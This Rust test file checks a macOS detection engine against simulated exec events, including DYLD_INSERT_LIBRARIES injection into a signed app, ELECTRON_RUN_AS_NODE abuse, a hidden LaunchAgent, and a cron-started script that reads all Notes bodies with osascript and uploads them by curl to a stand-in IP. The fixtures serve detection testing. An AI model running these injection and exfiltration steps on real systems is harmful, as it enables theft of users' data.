//! Abuse through the environment of an exec (Endpoint Security, `env`): a library injected into an application, an
//! application used as an interpreter.

use ipcsentry::decode::Format;
use ipcsentry::rules::Severity;
use ipcsentry::{Alert, Catalog, Engine, Limits, Policy, StreamOptions};
use serde_json::{Value, json};

/// A process: pid, image, team (empty: unsigned, `apple`: a platform binary), parent.
type Who = (u32, &'static str, &'static str, u32);

const STRANGER: Who = (801, "/private/tmp/helper-a91", "", 1);
const CHAT: &str = "/Applications/Chatter.app/Contents/MacOS/Chatter";

fn token(pid: u32) -> Value {
    json!({"pid": pid, "pidversion": pid * 10, "euid": 501, "auid": 501, "asid": 100_007})
}

fn process((pid, image, team, parent): Who) -> Value {
    json!({
        "audit_token": token(pid), "parent_audit_token": token(parent), "ppid": parent, "original_ppid": parent,
        "executable": {"path": image}, "is_platform_binary": team == "apple",
        "team_id": (!team.is_empty() && team != "apple").then_some(team), "signing_id": null,
    })
}

fn exec(second: u32, who: Who, args: &[&str], env: &[&str]) -> String {
    let before = (who.0, "/bin/zsh", "apple", who.3);
    let message = json!({
        "schema_version": 1, "version": 9, "time": format!("2026-03-02T09:00:{second:02}.5Z"), "global_seq_num": second,
        "action_type": 1, "process": process(before),
        "event": {"exec": {"target": process(who), "args": args, "env": env, "cwd": {"path": "/"}, "script": null}},
    });
    message.to_string() + "\n"
}

fn alerts(lines: &[String]) -> Vec<Alert> {
    alerts_of(Format::EsloggerJson, lines)
}

fn alerts_of(format: Format, lines: &[String]) -> Vec<Alert> {
    let mut engine = Engine::new(Catalog::builtin(), Policy::default(), Limits::default());
    let stream = engine.open_stream(StreamOptions::new(format));
    engine.feed_bytes(stream, lines.concat().as_bytes());
    engine.close_stream(stream);
    engine.flush();
    std::iter::from_fn(|| engine.poll_alert()).collect()
}

/// The alerts of at least medium severity: the start of the stranger by launchd is low.
fn codes(lines: &[String]) -> Vec<String> {
    alerts(lines).into_iter().filter(|alert| alert.level >= Severity::Medium).map(|alert| alert.code).collect()
}

#[test]
fn a_strangers_library_in_an_application_that_then_runs_a_shell() {
    let chat = (900, CHAT, "TEAM123456", STRANGER.0);
    let scenario = |library: &str| {
        [
            exec(1, STRANGER, &["helper"], &[]),
            exec(2, chat, &["Chatter"], &[&format!("DYLD_INSERT_LIBRARIES={library}")]),
            exec(5, (901, "/bin/sh", "apple", 900), &["sh", "-c", "id"], &[]),
        ]
    };
    let raised = alerts(&scenario("/private/tmp/.x.dylib"));
    let injected = raised.iter().find(|a| a.code == "M10").unwrap_or_else(|| panic!("{raised:?}"));
    let initiator = injected.initiator.process.as_ref().and_then(|p| p.image.clone());
    assert_eq!(initiator.as_deref(), Some("/tmp/helper-a91"));
    assert_eq!(codes(&scenario("/Users/ann/Library/Chatter/a.dylib")), ["M10"]);
    // A developer's library that Xcode injects.
    let tool = "/Applications/Xcode.app/Contents/Developer/usr/lib/libMainThreadChecker.dylib";
    assert_eq!(codes(&scenario(tool)), [] as [&str; 0]);
}

/// An execution as Santa reports it: arguments and variables are in base64.
fn execution(second: u32, (pid, image, team, parent): Who, args: &[&str], env: &[&str]) -> String {
    let id = |pid: u32| json!({"pid": pid, "pidversion": pid * 10});
    let coded = |texts: &[&str]| texts.iter().map(|t| base64(t.as_bytes())).collect::<Vec<_>>();
    let process = |path: &str| {
        json!({
            "id": id(pid), "parent_id": id(parent), "original_parent_pid": parent, "effective_user": {"uid": 501},
            "executable": {"path": path}, "is_platform_binary": team == "apple",
            "code_signature": {"team_id": team, "signing_id": "x"}, "cs_flags": 570_506_001,
        })
    };
    let message = json!({
        "machine_id": "mac-1", "event_time": format!("2026-03-02T09:00:{second:02}.5Z"),
        "execution": {
            "instigator": process("/bin/zsh"), "target": process(image), "args": coded(args), "envs": coded(env),
            "decision": "DECISION_ALLOW",
        },
    });
    message.to_string() + "\n"
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let four = |three: &[u8]| {
        let bits = (0..3).fold(0_usize, |bits, at| bits << 8 | usize::from(three.get(at).copied().unwrap_or(0)));
        let digit = |at: usize| if at <= three.len() { char::from(DIGITS[bits >> (18 - 6 * at) & 63]) } else { '=' };
        (0..4).map(digit).collect::<String>()
    };
    bytes.chunks(3).map(four).collect()
}

#[test]
fn a_library_that_santa_sees_inserted() {
    let chat = (900, CHAT, "TEAM123456", STRANGER.0);
    let scenario = |library: &str| {
        [
            execution(1, STRANGER, &["helper"], &[]),
            execution(2, chat, &["Chatter"], &[&format!("DYLD_INSERT_LIBRARIES={library}")]),
            execution(5, (901, "/bin/sh", "apple", 900), &["sh", "-c", "id"], &[]),
        ]
    };
    let raised = |library| {
        let loud = alerts_of(Format::SantaJson, &scenario(library)).into_iter().filter(|a| a.level >= Severity::Medium);
        loud.map(|alert| alert.code).collect::<Vec<_>>()
    };
    assert_eq!(raised("/private/tmp/.x.dylib"), ["M10"]);
    let tool = "/Applications/Xcode.app/Contents/Developer/usr/lib/libMainThreadChecker.dylib";
    assert_eq!(raised(tool), [] as [&str; 0]);
}

#[test]
fn a_library_that_an_unsigned_program_in_the_home_inserts() {
    let scenario = |starter: Who| {
        let chat = (900, CHAT, "TEAM123456", starter.0);
        let env = ["DYLD_INSERT_LIBRARIES=/Users/ann/Library/Caches/t.dylib"];
        let shell = (901, "/bin/zsh", "apple", 900);
        [exec(1, starter, &["x"], &[]), exec(2, chat, &["Chatter"], &env), exec(5, shell, &["zsh", "-c", "id"], &[])]
    };
    assert_eq!(codes(&scenario((802, "/Users/ann/Library/Caches/x", "", 1))), ["M10"]);
    // A developer's signed tool that starts an application with a library of its own.
    assert_eq!(codes(&scenario((803, "/Users/ann/Library/Tools/y", "TEAM654321", 1))), [] as [&str; 0]);
}

#[test]
fn a_library_inserted_and_nothing_done() {
    let chat = (900, CHAT, "TEAM123456", STRANGER.0);
    let env = ["DYLD_INSERT_LIBRARIES=/private/tmp/.x.dylib"];
    assert_eq!(codes(&[exec(1, STRANGER, &["helper"], &[]), exec(2, chat, &["Chatter"], &env)]), [] as [&str; 0]);
}

#[test]
fn an_application_made_an_interpreter_that_packs_files() {
    let scenario = |starter: Who, env: &[&str]| {
        let chat = (900, CHAT, "TEAM123456", starter.0);
        [
            exec(1, starter, &["x"], &[]),
            exec(2, chat, &["Chatter", "-e", "1"], env),
            exec(5, (901, "/usr/bin/ditto", "apple", 900), &["ditto", "-c", "-k", "a", "b"], &[]),
        ]
    };
    assert_eq!(codes(&scenario(STRANGER, &["ELECTRON_RUN_AS_NODE=1"])), ["M14"]);
    assert_eq!(codes(&scenario(STRANGER, &["HOME=/Users/ann"])), [] as [&str; 0]);
    // Editors run their own helpers this way.
    let editor = (640, "/Applications/Editor.app/Contents/MacOS/Editor", "TEAM654321", 1);
    assert_eq!(codes(&scenario(editor, &["ELECTRON_RUN_AS_NODE=1"])), [] as [&str; 0]);
}

/// launchd tells the program of a job its label.
#[test]
fn whoever_loaded_a_job_is_the_initiator_of_what_launchd_runs() {
    let loaded = ["launchctl", "load", "/Users/ann/Library/LaunchAgents/com.corp.sync.plist"];
    let initiator = |label: &str| {
        let raised = alerts(&[
            exec(1, (801, "/bin/bash", "apple", 1), &["bash", "a.sh"], &[]),
            exec(2, (802, "/bin/launchctl", "apple", 801), &loaded, &[]),
            exec(
                50,
                (803, "/Users/Shared/.c/d", "", 1),
                &["/Users/Shared/.c/d"],
                &[&format!("XPC_SERVICE_NAME={label}")],
            ),
        ]);
        let started = raised.into_iter().find(|alert| alert.code == "M20").expect("launchd runs what nobody installed");
        started.initiator.process.and_then(|process| process.image)
    };
    assert_eq!(initiator("com.corp.sync").as_deref(), Some("/bin/bash"), "48 seconds after it was loaded");
    assert_ne!(initiator("com.corp.other").as_deref(), Some("/bin/bash"), "another job");
}

/// A daemon that started before the log: only the image that its children had before they became programs names it.
#[test]
fn a_daemon_that_only_its_forks_name() {
    let from = |daemon: &'static str, (pid, image, team, parent): Who, args: &[&str]| {
        exec(pid - 900, (pid, image, team, parent), args, &[]).replacen("/bin/zsh", daemon, 1)
    };
    let notes = "tell application \"Notes\" to get body of every note";
    let scenario = |daemon: &'static str| {
        [
            from(daemon, (901, "/bin/sh", "apple", 320), &["sh", "-c", "/Users/ann/a.sh"]),
            from("/bin/sh", (902, "/usr/bin/osascript", "apple", 901), &["osascript", "-e", notes]),
            from("/bin/sh", (905, "/usr/bin/curl", "apple", 901), &["curl", "-T", "/tmp/n", "http://198.51.100.7/"]),
        ]
    };
    assert_eq!(codes(&scenario("/usr/sbin/cron")), ["M24"]);
    assert_eq!(codes(&scenario("/bin/zsh")), [] as [&str; 0]);
}
